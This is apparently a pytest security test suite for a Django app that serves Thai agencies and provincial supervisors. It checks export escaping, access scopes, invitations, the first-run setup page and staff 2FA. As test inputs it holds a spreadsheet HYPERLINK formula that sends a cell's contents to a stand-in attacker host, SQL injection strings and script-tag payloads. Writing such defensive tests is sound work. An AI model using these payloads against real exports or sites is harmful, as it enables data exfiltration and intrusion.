"""Attacks on the first-run page, the staff area, supervisors' invitations and
the network pages, played as each stranger a shared server has: another
agency's admin, an editor, a viewer, an anonymous visitor, a supervisor of
another province, a malicious file author."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from decimal import Decimal
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from prongsai.accounts.invitations import supervisor_invitation_create
from prongsai.accounts.models import Invitation, Membership
from prongsai.agencies.models import Agency
from prongsai.assessments.models import Assessment, QuestionScore
from prongsai.framework.models import Framework
from prongsai.network.models import Supervision
from prongsai.network.scope import parse_scope
from prongsai.network.services import supervision_create

YEAR = 2566
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'


def _results(agency: Agency, score: float = 90) -> None:
    framework = Framework.objects.get(year=YEAR)
    assessment = Assessment.objects.create(agency=agency, year=YEAR, framework=framework)
    QuestionScore.objects.bulk_create(
        QuestionScore(assessment=assessment, question=q, score=Decimal(score))
        for q in framework.questions.all()
    )


def _supervisor(username: str, scope: str) -> User:
    user = User.objects.create_user(username=username, password="x-long-password-1")
    supervision_create(user=user, scope=parse_scope(scope))
    return user


@pytest.fixture
def province_supervisor(agency: Agency) -> User:
    _results(agency)
    return _supervisor("np-sup", f"province:{agency.province}")


# --- Formula injection: an agency's name ends up in a supervisor's spreadsheet.


def _rename(client: Client, agency: Agency, name: str) -> None:
    data = {
        "name": name,
        "province": agency.province,
        "district": agency.district,
        "website": "",
        "weakness_threshold": "80",
        "document_digits": "arabic",
        "staff_count": "",
    }
    assert client.post(reverse("agencies:settings_update"), data).status_code == 302


def test_an_agency_name_written_as_a_formula_reaches_the_supervisors_csv_as_text(
    agency: Agency, agency_admin: User, province_supervisor: User, login: Any
) -> None:
    _rename(login(agency_admin), agency, FORMULA)
    export = _signed_in(province_supervisor).get(reverse("network:export", args=["csv"]))
    body = export.content.decode("utf-8-sig")
    names = [row[1] for row in csv.reader(io.StringIO(body))][1:]
    assert names == ["'" + FORMULA]


def test_an_agency_name_written_as_a_formula_is_a_text_cell_in_the_supervisors_xlsx(
    agency: Agency, agency_admin: User, province_supervisor: User, login: Any
) -> None:
    _rename(login(agency_admin), agency, FORMULA)
    response = _signed_in(province_supervisor).get(reverse("network:export", args=["xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    assert sheet.cell(row=2, column=2).data_type == "s"  # text, shown as typed
    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()


def _signed_in(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


# --- Scope: the agency's place decides who supervises it.


def test_a_supervisor_whose_province_has_no_results_yet_gets_an_empty_page(db: None) -> None:
    far = _signed_in(_supervisor("cm-sup", "province:เชียงใหม่"))
    assert far.get(reverse("network:index")).status_code == 200
    assert far.get(reverse("network:index"), HTTP_HX_REQUEST="true").status_code == 200


def test_an_agency_admin_cannot_move_the_agency_into_another_provinces_network(
    agency: Agency, agency_admin: User, login: Any
) -> None:
    _results(agency)
    far = _supervisor("cm-sup", "province:เชียงใหม่")
    data = {
        "name": agency.name,
        "province": "เชียงใหม่",
        "district": "แม่ริม",
        "website": "",
        "weakness_threshold": "80",
        "document_digits": "arabic",
        "staff_count": "",
    }
    login(agency_admin).post(reverse("agencies:settings_update"), data)
    agency.refresh_from_db()
    assert (agency.province, agency.district) == ("นครปฐม", "สามพราน")
    assert agency.name not in _signed_in(far).get(reverse("network:index")).content.decode()


# --- The network pages: scope, sort and filter parameters.


@pytest.mark.parametrize(
    "params",
    [
        {"sort": "name; DROP TABLE agencies_agency"},
        {"sort": "-pk"},
        {"sort": "agency__memberships__user__password"},
        {"rating": "' OR 1=1 --", "district": "x' OR '1'='1"},
        {"year": "2566 OR 1=1", "page": "-1"},
    ],
)
def test_sort_and_filter_parameters_cannot_reach_sql_or_other_columns(
    params: dict[str, str], province_supervisor: User
) -> None:
    response = _signed_in(province_supervisor).get(reverse("network:index"), params)
    assert response.status_code == 200
    assert Agency.objects.exists()


def test_a_supervisor_of_another_province_reads_nothing_of_ours_through_the_panels(
    agency: Agency, other_agency: Agency
) -> None:
    _results(agency)
    far = _signed_in(_supervisor("cm-sup", "province:เชียงใหม่"))
    assert far.get(reverse("network:agency", args=[agency.slug])).status_code == 404
    panel = far.get(reverse("network:what_worked"), {"from": YEAR - 1, "agency": agency.slug})
    assert panel.status_code == 404
    common = far.get(reverse("network:common"), {"year": YEAR})
    assert agency.name not in common.content.decode()
    export = far.get(reverse("network:export", args=["csv"])).content.decode("utf-8-sig")
    assert agency.slug not in export


@pytest.mark.parametrize("persona", ["agency_admin", "department_editor", "viewer", "other_admin"])
def test_agency_members_cannot_open_any_network_page(
    request: pytest.FixtureRequest, persona: str, province_supervisor: User, agency: Agency
) -> None:
    client = _signed_in(request.getfixturevalue(persona))
    for url in (
        reverse("network:index"),
        reverse("network:export", args=["csv"]),
        reverse("network:agency", args=[agency.slug]),
        reverse("network:common") + f"?year={YEAR}",
        reverse("network:what_worked") + f"?from={YEAR}",
    ):
        assert client.get(url).status_code in (302, 403), url


def test_an_agency_name_with_markup_is_shown_as_text_in_the_map_and_table(
    agency: Agency, province_supervisor: User
) -> None:
    Agency.objects.filter(pk=agency.pk).update(
        name="<script>alert(1)</script>", district='"><svg onload=alert(1)>'
    )
    page = _signed_in(province_supervisor).get(reverse("network:index")).content.decode()
    assert "<script>alert(1)" not in page and "<svg onload" not in page


# --- Staff area and invitations.


@pytest.mark.parametrize("persona", ["agency_admin", "other_admin", "viewer"])
def test_an_agency_role_never_opens_the_staff_area(
    request: pytest.FixtureRequest, persona: str
) -> None:
    client = _signed_in(request.getfixturevalue(persona))
    assert client.get(reverse("staff:home")).status_code == 404
    response = client.post(
        reverse("staff:supervisor_new"), {"email": "me@example.com", "scope": "national"}
    )
    assert response.status_code == 404
    assert not Invitation.objects.filter(agency=None).exists()


def test_an_agency_admin_cannot_turn_an_invitation_into_a_supervision(
    agency_admin: User, login: Any
) -> None:
    client = login(agency_admin)
    client.post(
        reverse("accounts:invite"),
        {"email": "x@example.com", "role": "admin", "scope": "national", "agency": ""},
    )
    invitation = Invitation.objects.get(email="x@example.com")
    assert invitation.agency_id is not None and invitation.scope == ""


def test_a_supervisors_invitation_gives_its_own_scope_and_never_an_agency_role(
    agency: Agency, agency_admin: User
) -> None:
    _invitation, token = supervisor_invitation_create(
        email="sup@example.com", scope="province:เชียงใหม่", types=[], invited_by=None
    )
    user = User.objects.create_user("sup", "sup@example.com", "x-long-password-1")
    client = _signed_in(user)
    link = reverse("accounts:invitation_accept", args=[token])
    # Extra fields asking for another scope or a role are ignored.
    client.post(link, {"scope": "national", "role": "admin", "agency": agency.pk})
    assert [s.province for s in Supervision.objects.filter(user=user)] == ["เชียงใหม่"]
    assert not Membership.objects.filter(user=user).exists()


def test_the_hidden_rows_of_an_import_cannot_ask_for_an_invitation_the_plan_refuses(
    agency: Agency, agency_admin: User, login: Any
) -> None:
    staff = User.objects.create_user("staff", "s@example.go.th", "x", is_staff=True)
    rows = [
        {
            "number": 2,
            "slug": agency.slug,
            "name": agency.name,
            "type": agency.type,
            "province": agency.province,
            "district": agency.district,
            "admin_email": "mallory@example.com",
            "invite": True,
            "status": "create",
            "is_staff": True,
        }
    ]
    response = login(staff).post(reverse("staff:agencies_confirm"), {"rows": json.dumps(rows)})
    assert response.status_code == 200
    # Tha Talad already has its admin: nobody else is invited as admin.
    assert not Invitation.objects.filter(email="mallory@example.com").exists()
    assert Agency.objects.filter(slug=agency.slug).count() == 1


# --- The first-run page.


def test_the_first_run_page_does_not_open_again_when_only_users_exist(
    db: None, settings: Any
) -> None:
    """Agencies are gone (or not made yet) but a staff account exists: an
    anonymous visitor must not claim the deployment with a new staff account."""
    User.objects.create_user("somsri", "s@example.go.th", "x", is_staff=True)
    assert Client().get(reverse("setup")).status_code == 404


# --- Formula injection from the public: a survey's free text in the admin's export.


def test_a_public_respondents_formula_stays_text_in_the_agency_admins_exports(
    client: Client, login: Any, agency_admin: User, agency: Agency
) -> None:
    from datetime import timedelta

    from django.utils import timezone

    from prongsai.surveys.services import survey_create_custom
    from tests.surveys.conftest import fill

    today = timezone.localdate()
    survey = survey_create_custom(
        agency=agency,
        title="ความพึงพอใจ",
        slug="public",
        opens_on=today - timedelta(days=1),
        closes_on=today + timedelta(days=10),
        services=["ชำระภาษี"],
        questions=[
            ("สะดวกรวดเร็ว", "satisfaction"),
            ("สุภาพ", "satisfaction"),
            ("ข้อเสนอแนะ", "free_text"),
        ],
        actor=None,
    )
    data = fill(survey) | {"client_id": "e" * 32, "q-Q4": FORMULA}
    assert client.post(f"/surveys/s/{survey.slug}/", data).status_code == 303
    admin = login(agency_admin)
    csv_body = admin.get(f"/surveys/survey/{survey.slug}/export.csv").content.decode("utf-8-sig")
    assert [row[4] for row in csv.reader(io.StringIO(csv_body))][1:] == ["'" + FORMULA]
    xlsx = admin.get(f"/surveys/survey/{survey.slug}/export.xlsx").content
    with zipfile.ZipFile(io.BytesIO(xlsx)) as book:
        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()


def test_an_overlong_province_is_refused_at_the_preview_naming_row_and_column(
    db: None, login: Any
) -> None:
    from django.core.files.uploadedfile import SimpleUploadedFile

    staff = User.objects.create_user("staff", "s@example.go.th", "x", is_staff=True)
    text = "slug,name,type,province,district\nban-mai,บ้านใหม่,อบต.," + "ก" * 150 + ",เมือง\n"
    client = login(staff)
    preview = client.post(
        reverse("staff:agencies_preview"), {"file": SimpleUploadedFile("a.csv", text.encode())}
    )
    assert preview.status_code == 400
    assert "province ยาวเกิน 100" in preview.content.decode()
    # The confirmation, sent by hand, is checked the same way: no error page.
    rows = [{"number": 2, "slug": "ban-mai", "name": "บ้านใหม่", "type": "sao",
             "province": "ก" * 150, "district": "เมือง"}]  # fmt: skip
    confirm = client.post(reverse("staff:agencies_confirm"), {"rows": json.dumps(rows)})
    assert confirm.status_code == 400 and not Agency.objects.exists()


@pytest.mark.parametrize(
    ("route", "param"), [("network:what_worked", "from"), ("network:common", "year")]
)
def test_a_year_of_forty_digits_answers_404_not_an_error_page(
    route: str, param: str, province_supervisor: User
) -> None:
    response = _signed_in(province_supervisor).get(reverse(route), {param: "9" * 40})
    assert response.status_code == 404


def test_a_stolen_staff_password_alone_does_not_open_the_staff_area(db: None) -> None:
    """Staff must pass the second factor (REQUIRE_2FA_FOR=staff by default)."""
    staff = User.objects.create_user("staff", "s@example.go.th", "x", is_staff=True)
    client = _signed_in(staff)  # past the password only
    assert client.get(reverse("staff:home")).status_code == 302
    client.post(reverse("staff:supervisor_new"), {"email": "m@example.com", "scope": "national"})
    assert not Invitation.objects.exists()


def test_the_first_run_page_never_answers_a_wrong_token_differently_from_a_closed_one(
    db: None, settings: Any
) -> None:
    settings.PRODUCTION = True
    settings.SETUP_TOKEN = "the-installers-secret-token"
    assert Client().get(reverse("setup"), {"token": "guess"}).status_code == 404
    assert Client().get(reverse("setup"), {"token": settings.SETUP_TOKEN}).status_code == 200
    Agency.objects.create(slug="x", name="x", type="sao", province="p", district="d")
    assert Client().get(reverse("setup"), {"token": settings.SETUP_TOKEN}).status_code == 404


def test_an_agency_admin_cannot_resend_or_revoke_a_supervisors_invitation(
    agency_admin: User, login: Any
) -> None:
    invitation, _token = supervisor_invitation_create(
        email="sup@example.com", scope="national", types=[], invited_by=None
    )
    client = login(agency_admin)
    for name in ("accounts:invitation_resend", "accounts:invitation_revoke"):
        assert client.post(reverse(name, args=[invitation.pk])).status_code == 404
    invitation.refresh_from_db()
    assert invitation.revoked_at is None
